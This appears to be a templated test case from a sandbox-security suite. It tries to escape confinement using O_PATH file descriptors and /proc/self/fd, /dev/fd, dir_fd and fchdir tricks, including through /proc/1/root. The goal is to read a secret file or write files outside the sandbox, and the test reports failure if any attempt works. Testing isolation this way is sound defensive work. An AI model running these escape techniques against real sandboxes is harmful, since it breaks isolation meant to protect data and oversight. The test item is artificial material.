# attack: descriptors_that_only_point
# kind: escape
# tries: gets descriptors that only point to files, which nobody checks, and opens what they point to through them
# seen: the secret is in the report, or a file is written outside
# deserves: nothing
# extra: before 3.2a
# %%
import os

home, text = os.getcwd(), ""
name = r"{secret}"
for start in (name, os.path.dirname(name), r"{outside}", "/", "..", "../..", "/proc/1/root", "/proc/1/cwd"):
    try:
        handle = os.open(start, os.O_PATH)
    except OSError:
        continue
    for way in (
        lambda: open(f"/proc/self/fd/{handle}").read(),
        lambda: open(f"/dev/fd/{handle}").read(),
        lambda: os.fdopen(os.open("secret.txt", os.O_RDONLY, dir_fd=handle)).read(),
        lambda: os.fdopen(os.open(name.lstrip("/"), os.O_RDONLY, dir_fd=handle)).read(),
        lambda: os.fchdir(handle) or open("secret.txt").read(),
        lambda: start == r"{outside}" and os.open("pointed", os.O_CREAT | os.O_WRONLY, dir_fd=handle) and "",
        lambda: start == r"{outside}" and os.fchdir(handle) is None and open("walked", "x").write(""),
    ):
        try:
            text += str(way() or "")
        except OSError:
            pass
        os.chdir(home)
if text:
    raise RuntimeError(f"FELL: {text}")
